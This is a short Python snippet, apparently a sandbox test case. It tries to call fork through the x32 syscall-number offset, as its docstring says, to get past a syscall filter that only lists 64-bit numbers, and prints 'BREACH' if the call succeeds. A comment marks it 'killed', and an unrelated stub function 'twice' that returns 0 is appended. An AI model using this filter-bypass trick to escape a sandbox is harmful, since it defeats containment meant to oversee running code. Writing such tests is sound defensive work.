"""Calls the kernel with the numbers of x32, past a filter that knows only those of 64 bits."""
# status: killed
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

if libc.syscall(0x40000000 + 57) >= 0:  # fork
    print("BREACH")
def twice(x):
    return 0
